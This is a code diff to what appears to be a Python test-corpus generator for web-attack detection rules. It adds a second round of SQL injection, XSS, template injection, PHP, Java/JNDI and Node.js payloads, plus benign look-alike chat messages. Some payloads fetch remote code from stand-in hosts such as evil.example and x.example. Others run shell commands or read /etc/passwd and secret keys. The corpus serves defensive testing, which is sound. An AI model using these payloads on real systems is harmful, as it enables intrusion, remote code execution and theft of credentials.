@@ -348,6 +348,180 @@ NODE = [
     "require('http').get('http://oob.example/'+process.env.HOME)",
 ]
 
+# Round two, written after round one was measured and fixed but before measuring these: shapes further
+# from the textbook ones (bracket notation, module prefixes, dialect builtins, scheme and entity tricks,
+# less common engines), each family measured on the rules as they stood before this round.
+SQLI_2 = [
+    "1 RLIKE (SELECT (CASE WHEN (7=7) THEN 1 ELSE 0x28 END))",
+    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM mysql.db GROUP BY x)",
+    "' GROUP BY id HAVING 1=1--",
+    "' and 1 in (select min(name) from master..sysdatabases)--",
+    "';shutdown--",
+    "1 or 3 between 2 and 4",
+    "' or 1 in (1)-- ",
+    "1'||(SELECT 'a' WHERE 1=1)||'",
+    "1) ORDER BY 3-- -",
+    "' AND GTID_SUBSET(@@hostname,0)-- ",
+    "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
+    "1 AND 1=(SELECT 1 FROM generate_series(1,1))",
+    "' AND 1=utl_inaddr.get_host_name((SELECT banner FROM v$version WHERE rownum=1))--",
+    "' UNION SELECT NULL FROM DUAL--",
+    "'; EXEC sp_configure 'show advanced options',1;RECONFIGURE--",
+    "1;IF(1=1) WAITFOR DELAY '0:0:5'--",
+    "' AND 1=(SELECT IS_SRVROLEMEMBER('sysadmin'))--",
+    "'+convert(varchar,@@version)+'",
+    "1 union select * from openrowset('SQLOLEDB','x';'sa';'p','select 1')",
+    "' AND 1=like('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
+    "1; ATTACH DATABASE '/var/www/x.php' AS x;--",
+    "1'or(1)=(1)#",
+    "'or`id`",
+    "1'||'1'='1",
+    "'-'",
+    "admin') or ('1'='1'/*",
+    "1 and (select substr(table_name,1,1) from all_tables where rownum=1)='A'",
+    "1 AND ELT(1=1,SLEEP(2))",
+    "$$ or 1=1 $$",
+    "(select*from(select(sleep(4)))a)",
+]
+
+XSS_2 = [
+    "<svg><style>{font-family:'<iframe/onload=confirm()>'",
+    "<img src=`x`onerror=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    "<svg onload\t=alert(1)>",
+    "<a href=javas&#99;ript:alert(1)>x</a>",
+    "<x contenteditable onblur=alert(1)>lose focus!",
+    "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">",
+    "<img src=x onerror=top['al\\x65rt'](1)>",
+    "<img src=x onerror=import('//evil.example/x.js')>",
+    "<script>{onerror=alert}throw 1</script>",
+    "javascript://%0aalert(1)",
+    "JaVaScRiPt:prompt(1)",
+    "<img src=1 onerror=\\u0061lert(1)>",
+    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
+    "<style>*{background-image:url('javascript:alert(1)')}</style>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    "{{constructor.constructor('alert(1)')()}}",
+    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
+    "'-alert(1)-'",
+    "\"-confirm`1`-\"",
+    "<a href=\"javascript&colon;alert(1)\">x</a>",
+    "<iframe src=\"jav&Tab;ascript:alert(1)\">",
+    "<body/onload=&#97;lert(1)>",
+    "<img src onerror=print()>",
+    "<svg><discard onbegin=alert(1)>",
+    "</script><svg onload=alert(1)>",
+]
+
+SSTI_2 = [
+    "{{request|attr(request.args.a)}}",
+    "{{()|attr('\\x5f\\x5fclass\\x5f\\x5f')}}",
+    "{{ get_flashed_messages.__globals__ }}",
+    "{{url_for.__globals__['current_app'].config}}",
+    "{{['id',1]|sort('system')|join}}",
+    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
+    "${.data_model}",
+    "<#list .data_model?keys as k>${k}</#list>",
+    "${\"x\"?api.class}",
+    "$class.inspect('java.lang.Runtime')",
+    "<% import os; x=os.popen('id').read() %>${x}",
+    "{% raw __import__('os').popen('id').read() %}",
+    "{{handler.settings}}",
+    "{{printf \"%s\" .Secret}}",
+    "{{ .Env.AWS_SECRET_ACCESS_KEY }}",
+    "{{ 'x' | append: site.secret }}",
+    "{{$on.constructor('alert(1)')()}}",
+    "{{ settings.SECRET_KEY }}",
+    "{{ request.META }}",
+    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
+    "<%= Dir.entries('/') %>",
+    "{$smarty.version}",
+    "{if system('id')}{/if}",
+    "{fetch file='/etc/passwd'}",
+    "{{lookup this 'constructor'}}",
+    "<%= Runtime.getRuntime().exec(request.getParameter(\"c\")) %>",
+    "*{7*7}",
+]
+
+PHP_2 = [
+    "${@eval($_POST[x])}",
+    "`$_GET[0]`",
+    "array_walk($a,'assert')",
+    "eval(\"?>\".file_get_contents('http://evil.example/x'))",
+    "php://filter/convert.iconv.utf-8.utf-16/resource=index.php",
+    "php://temp/maxmemory:1024",
+    "ssh2.exec://user:pass@10.0.0.1/id",
+    "assert(base64_decode($_POST[0]))",
+    "preg_replace('/a/e',$_GET[c],'a')",
+    "$_FILES['f']['tmp_name']",
+    "getallheaders()['X']",
+    "die(`id`);",
+    "print(`cat /etc/passwd`);",
+    "__halt_compiler();",
+    "posix_getpwuid(posix_geteuid())",
+    "dl('exploit.so')",
+    "ob_start('system');echo 'id';ob_end_flush();",
+    "new SplFileObject('/etc/passwd')",
+    "(new ReflectionClass('PDO'))->newInstance()",
+    "O:4:\"Test\":1:{S:4:\"\\61bc\";i:1;}",
+    "a:2:{i:0;O:1:\"X\":0:{}i:1;i:2;}",
+    "<?php\t$a=$_COOKIE;$a['f']($a['c']);",
+    "@extract($_REQUEST);@die($f($c));",
+    "include $_SERVER['DOCUMENT_ROOT'].'/../../etc/passwd';",
+]
+
+JAVA_2 = [
+    "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}",
+    "${j${::-n}di:ldap://x.example/a}",
+    "${jn${lower:d}i:l${lower:d}ap://x.example/a}",
+    "${sys:os.name}",
+    "${java:version}",
+    "${hostName}",
+    "${web:rootDir}",
+    "${spring:spring.datasource.password}",
+    "${log4j:configLocation}",
+    "(#a=@java.lang.Runtime@getRuntime().exec('id'))",
+    "%{1+1}",
+    "%25%7B%23a%3D%40java.lang.Runtime%40getRuntime()%7D",
+    "#this.getClass().forName('java.lang.Runtime')",
+    "''.class.getSuperclass().getDeclaredMethods()",
+    "#{request.getParameter('x')}",
+    "this.class.classLoader.parseClass('class X{}')",
+    "def proc = 'id'.execute(); proc.waitFor()",
+    "Runtime.getRuntime().exec(\"id\")",
+    "H4sIAAAAAAAAAJVSTW/TQBC9V+p/WO0Bxlrt7IbHKkgBhOJB",
+    "com.sun.jndi.rmi.registry.ReferenceWrapper",
+    "javax.management.BadAttributeValueExpException",
+    "org.hibernate.engine.spi.TypedValue",
+    "[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"ldap://x.example/a\"}]",
+    "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
+    "${param.cmd}",
+    "${header['user-agent']}",
+]
+
+NODE_2 = [
+    "process['mainModule']['require']('child_process')['execSync']('id')",
+    "this['constructor']['constructor']('return process')()",
+    "global['process']['env']",
+    "require('node:child_process').execSync('id')",
+    "require(\"node:fs\").readFileSync(\"/etc/passwd\")",
+    "module.require('os').userInfo()",
+    "spawn('sh',['-c','id'])",
+    "exec('id', (e, o) => res.send(o))",
+    "Deno.run({cmd:['id']})",
+    "Bun.spawn(['id'])",
+    "{\"$where\":\"sleep(5000)\"}",
+    "toString.constructor.prototype.polluted=1",
+    "x.__lookupGetter__('a')",
+    "process.env",
+    "res.send(__dirname)",
+    "eval('req'+'uire')('child_process')",
+    "(()=>{}).constructor('return process')()",
+    "Object.getPrototypeOf({}).admin=true",
+]
+
 # Prototype pollution through query keys and JSON documents (whole-request placements).
 POLLUTION_QUERIES = [
     "__proto__[admin]=1",
@@ -370,7 +544,9 @@ POLLUTION_JSON: list[Any] = [
     [{"__proto__": {"toString": 1}}],
 ]
 
-FAMILIES = {"sqli": SQLI, "xss": XSS, "ssti": SSTI, "php": PHP, "java": JAVA, "nodejs": NODE}
+FAMILIES = {"sqli": SQLI + SQLI_2, "xss": XSS + XSS_2, "ssti": SSTI + SSTI_2, "php": PHP + PHP_2,
+            "java": JAVA + JAVA_2, "nodejs": NODE + NODE_2}
+ROUND_2 = {p for lst in (SQLI_2, XSS_2, SSTI_2, PHP_2, JAVA_2, NODE_2) for p in lst}
 PLACES = ["query", "form", "json", "cookie", "header"]
 PARAMS = ["q", "id", "sort", "name", "comment", "template", "filter", "data", "message", "order"]
 
@@ -405,7 +581,8 @@ def attacks() -> Iterator[dict[str, Any]]:
                 place = PLACES[(i + k) % len(PLACES)]
                 n += 1
                 yield {**_place(place, PARAMS[(i + k) % len(PARAMS)], p), "id": f"mix-{family}-{n:04d}",
-                       "category": family, "sub": family, "placement": place, "payload": p}
+                       "category": family, "sub": f"{family}/r{2 if p in ROUND_2 else 1}", "placement": place,
+                       "payload": p}
     for i, qs in enumerate(POLLUTION_QUERIES):
         for k, path in enumerate(("/api/users?", "/api/users?page=2&")):
             yield {**_get(path + qs), "id": f"mix-nodejs-pq{i}-{k}", "category": "nodejs", "sub": "pollution",
@@ -454,6 +631,17 @@ SLACK_TEXTS = [
     "exec summary: Q3 revenue up 12%",
     "the system is down for maintenance between 2 and 4 am",
     "Hey! Are we still on for lunch? I'm thinking tacos 🌮",
+    # round two
+    "process.env is empty inside the container, check the compose file",
+    "Deno and Bun both start faster than node for small scripts",
+    "restaurant price range: $$ (moderate), reviews 4.5/5",
+    "the spawn point in level 3 is broken; players fall through the map",
+    "@John (design) thoughts on the new logo?",
+    "our Grafana shows sleep time per request; benchmark numbers in the doc",
+    "Freemarker's ?html built-in is deprecated, use auto-escaping",
+    "the {{name}} placeholder isn't replaced in the welcome mail",
+    "1 or 2 people from each team, between 3 and 4 pm",
+    "WAITFOR the release notes before announcing, please",
 ]
 
 SEARCHES = [
